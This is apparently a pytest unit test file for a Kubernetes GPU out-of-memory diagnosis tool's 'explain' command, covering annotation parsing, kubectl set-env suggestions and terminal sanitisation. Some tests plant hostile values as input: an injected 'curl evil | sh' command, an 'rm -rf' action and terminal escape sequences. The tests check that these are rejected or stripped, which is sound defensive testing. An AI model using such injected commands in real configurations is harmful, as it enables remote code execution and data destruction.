"""`gpu-auditor explain`: the reading of a pod's annotations, Events and node report (pure).

The annotations are written here by the operator's own writer (`controller.annotations`) from
a real diagnosis of an example log, so the reader is held to what the operator writes; the
node report goes through the agent's writer and the base's parser the same way.
"""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gpu_auditor.base.contract import Allocated
from gpu_auditor.base.nodereport import PodEntry
from gpu_auditor.commands import explaintext
from gpu_auditor.commands.explanation import explain, read_diagnosis
from gpu_auditor.diagnosis.model import Diagnosis

from .explain_helpers import (
    GIB,
    OTHER_UID,
    PREFIX,
    UID,
    failed_pod,
    node_report,
    operator_annotations,
)

pytestmark = pytest.mark.unit


def test_a_fragmentation_diagnosis_reads_back_whole_with_every_action_in_order() -> None:
    notes = operator_annotations("fragmentation.log")
    e = explain(failed_pod(notes), events=[], owners=(), report=None, report_note="")
    assert e.diagnosis is not None
    assert isinstance(e.diagnosis, Diagnosis)  # the core's own type, read back
    assert e.diagnosis.kind == "fragmentation"
    assert list(e.diagnosis.recommendation.actions) == json.loads(notes[f"{PREFIX}actions"])
    assert e.diagnosis.figures.requested_bytes == round(4.2 * GIB)
    text = explaintext.render(e)
    for n, action in enumerate(e.diagnosis.recommendation.actions, 1):
        assert f"  {n}. {action}" in text
    assert "requested" in text and "4.20 GiB" in text


def test_the_setting_is_a_set_env_line_for_the_deployment_not_its_replicaset() -> None:
    notes = operator_annotations("fragmentation.log")
    owners = ("ReplicaSet/finetune-7b-5d9f", "Deployment/finetune-7b")
    e = explain(failed_pod(notes), events=[], owners=owners, report=None, report_note="")
    assert e.setting is not None
    assert e.setting.set_env_command == (
        "kubectl -n ml set env deployment/finetune-7b -c main "
        "PYTORCH_CUDA_ALLOC_CONF='expandable_segments:True'")
    assert '- name: PYTORCH_CUDA_ALLOC_CONF\n        value: "expandable_segments:True"' in \
        e.setting.yaml
    assert "owned by Deployment/finetune-7b <- ReplicaSet/finetune-7b-5d9f" in \
        explaintext.render(e)


def test_the_setting_keeps_the_variable_the_container_already_sets() -> None:
    pod = failed_pod({}, env=[{"name": "PYTORCH_ALLOC_CONF", "value": "max_split_size_mb:64"}])
    e = explain(failed_pod(operator_annotations("fragmentation.log"),
                           env=pod["spec"]["containers"][0]["env"]),
                events=[], owners=(), report=None, report_note="")
    assert e.setting is not None and e.setting.variable == "PYTORCH_ALLOC_CONF"
    assert e.setting.set_env_command == ""  # a bare pod: its env cannot change
    assert "recreate it with:" in explaintext.render(e)


def test_other_processes_of_the_message_are_named_by_the_node_reports_pids() -> None:
    notes = operator_annotations("gpu-shared.log")
    e0 = explain(failed_pod(notes), events=[], owners=(), report=None, report_note="")
    assert e0.diagnosis is not None and e0.diagnosis.figures.other_processes
    pid = e0.diagnosis.figures.other_processes[0].pid
    report = node_report(
        PodEntry("ml", "finetune-7b-abc12", UID, "main", Allocated.TRUE, 10 * GIB, (4242,)),
        PodEntry("ml", "notebook-1", OTHER_UID, "lab", Allocated.FALSE, 80 * GIB, (pid,)))
    e = explain(failed_pod(notes), events=[], owners=(), report=report,
                report_note="GPUNodeReport x")
    assert e.diagnosis is not None
    named = e.diagnosis.figures.other_processes[0]
    assert (named.namespace, named.pod) == ("ml", "notebook-1")
    (gpu,) = e.gpus
    assert [(t.pod, t.this_pod) for t in gpu.tenants] == [
        ("ml/notebook-1", False), ("ml/finetune-7b-abc12", True)]
    assert gpu.unattributed_bytes == 10 * GIB
    text = explaintext.render(e)
    assert f"pid {pid}: pod ml/notebook-1" in text
    assert "ml/notebook-1 [lab]: NOT allocated this GPU" in text
    assert "10.00 GiB  in no pod the report lists" in text


def test_a_gpu_the_pod_is_not_on_is_not_listed() -> None:
    report = node_report(PodEntry("x", "y", OTHER_UID, "c", Allocated.TRUE, GIB, (7,)))
    e = explain(failed_pod(operator_annotations("capacity.log")), events=[], owners=(),
                report=report, report_note="r")
    assert e.gpus == ()


def test_escape_sequences_in_annotations_never_reach_the_terminal() -> None:
    notes = operator_annotations("fragmentation.log")
    notes[f"{PREFIX}summary"] = "ok\x1b]0;pwned\x07\nFAKE: line\x1b[2J"
    notes[f"{PREFIX}actions"] = json.dumps(["run \x1b[31mrm -rf\x1b[0m"])
    text = explaintext.render(explain(failed_pod(notes), events=[], owners=(), report=None,
                                      report_note=""))
    assert "\x1b" not in text and "\x07" not in text
    assert "\nFAKE: line" not in text


def test_annotations_that_are_not_json_are_said_not_guessed() -> None:
    notes = operator_annotations("fragmentation.log")
    notes[f"{PREFIX}evidence"] = "{not json"
    notes[f"{PREFIX}actions"] = '{"a": 1}'
    e = explain(failed_pod(notes), events=[], owners=(), report=None, report_note="")
    assert e.diagnosis is not None and e.diagnosis.recommendation.actions == ()
    assert "the evidence annotation is not valid JSON; not shown" in e.notes
    assert "the actions annotation is not a JSON list; not shown" in e.notes
    assert e.malformed == ("the evidence annotation is not valid JSON",
                           "the actions annotation is not a JSON list")


@pytest.mark.parametrize("deep", ["[" * 100_000 + "]" * 100_000, '{"a":' * 100_000 + "1" +
                                  "}" * 100_000])
def test_an_annotation_nested_too_deeply_is_said_not_a_traceback(deep: str) -> None:
    """Issue 26, item 8: 100,000 levels raised RecursionError out of explain (exit 1, which
    --exit-code reads as "diagnosed")."""
    notes = operator_annotations("fragmentation.log")
    notes[f"{PREFIX}evidence"] = deep
    notes[f"{PREFIX}actions"] = deep
    e = explain(failed_pod(notes), events=[], owners=(), report=None, report_note="")
    assert e.diagnosis is not None and e.diagnosis.kind == "fragmentation"
    assert e.malformed == ("the actions annotation is nested too deeply to read",
                           "the evidence annotation is nested too deeply to read")
    assert "fragmentation" in explaintext.render(e)


def test_a_list_or_object_where_text_belongs_is_never_made_its_repr() -> None:
    notes = operator_annotations("fragmentation.log")
    evidence = json.loads(notes[f"{PREFIX}evidence"])
    deep: object = 1
    for _ in range(900):
        deep = [deep]
    evidence.update(container=deep, source={"a": [1] * 10_000}, framework=[1])
    notes[f"{PREFIX}evidence"] = json.dumps(evidence)
    e = explain(failed_pod(notes), events=[{"type": deep, "reason": ["x"] * 10_000,
                                             "source": {"component": "gpu-auditor"}}],
                owners=(), report=None, report_note="")
    assert e.context is not None and (e.context.container, e.context.source) == ("", "")
    assert e.events[0].type == "" and e.events[0].reason == ""


def test_a_forged_recommendation_gets_no_snippet_and_says_why() -> None:
    notes = operator_annotations("fragmentation.log")
    notes[f"{PREFIX}recommended-alloc-conf"] = "x; curl evil | sh"
    e = explain(failed_pod(notes), events=[], owners=("Deployment/d",), report=None, report_note="")
    assert e.setting is None
    assert e.setting_withheld.startswith("the recommended value 'x; curl evil | sh' does not")
    assert "kubectl" not in explaintext.render(e).split("No setting offered")[1]


def test_only_the_operators_events_about_this_pod_are_shown_oldest_first() -> None:
    events = [
        {"source": {"component": "gpu-auditor"}, "involvedObject": {"uid": UID},
         "type": "Warning", "reason": "CUDAOutOfMemory", "message": "second",
         "lastTimestamp": "2026-12-01T04:02:00Z"},
        {"source": {"component": "kubelet"}, "involvedObject": {"uid": UID},
         "type": "Normal", "reason": "Pulled", "message": "not ours",
         "lastTimestamp": "2026-12-01T04:00:00Z"},
        {"source": {"component": "gpu-auditor"}, "involvedObject": {"uid": OTHER_UID},
         "reason": "CUDAOutOfMemory", "message": "another pod's",
         "lastTimestamp": "2026-12-01T04:00:00Z"},
        {"reportingComponent": "gpu-auditor.io/operator", "involvedObject": {"uid": UID},
         "type": "Warning", "reason": "UnintendedGPUSharing", "message": "first",
         "lastTimestamp": "2026-12-01T04:01:00Z", "count": 3},
    ]
    e = explain(failed_pod({}), events=events, owners=(), report=None, report_note="")
    assert [ev.message for ev in e.events] == ["first", "second"]
    assert "UnintendedGPUSharing (x3): first" in explaintext.render(e)


def test_a_pod_without_a_diagnosis_says_so() -> None:
    e = explain(failed_pod({"other.io/x": "y"}), events=[], owners=(), report=None,
                report_note="unknown: x")
    assert e.diagnosis is None and e.sharing is None
    assert "No gpu-auditor diagnosis on this pod" in explaintext.render(e)


def test_a_cronjobs_job_gets_the_cronjob_and_a_custom_kind_its_own_spec() -> None:
    notes = operator_annotations("fragmentation.log")
    e = explain(failed_pod(notes), events=[], owners=("Job/nightly-29", "CronJob/nightly"),
                report=None, report_note="")
    assert e.setting is not None
    assert e.setting.set_env_command == (
        "kubectl -n ml set env cronjob/nightly -c main "
        "PYTORCH_CUDA_ALLOC_CONF='expandable_segments:True'")
    e = explain(failed_pod(notes), events=[], owners=("PyTorchJob/llm",), report=None,
                report_note="")
    assert e.setting is not None and e.setting.set_env_command == ""
    assert "to PyTorchJob/llm: edit the pod template in the PyTorchJob's spec:" in \
        explaintext.render(e)


# -- any annotation text: read or said, never an exception (issue 26; the full run:
# bench/fuzz_operator_parsers.py) ------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400), st.text(max_size=400),
       st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
                    lambda c: st.lists(c, max_size=4) | st.dictionaries(
                        st.sampled_from(["figures", "otherProcesses", "pid", "bytes", "container",
                                         "contributing", "oomCount", "requestedBytes"]),
                        c, max_size=4), max_leaves=25))
def test_any_annotation_is_read_or_said_never_raised(actions: str, evidence: str,
                                                     shaped: object) -> None:
    for pair in ((actions, evidence), (json.dumps(shaped), json.dumps(shaped))):
        notes: list[str] = []
        malformed: list[str] = []
        read = read_diagnosis({"diagnosis": "capacity", "actions": pair[0],
                               "evidence": pair[1]}, notes, malformed)
        assert read is not None and len(malformed) <= 2
        explaintext.render(explain(failed_pod({f"{PREFIX}diagnosis": "capacity",
                                               f"{PREFIX}actions": pair[0],
                                               f"{PREFIX}evidence": pair[1]}),
                                   events=[], owners=(), report=None, report_note=""))
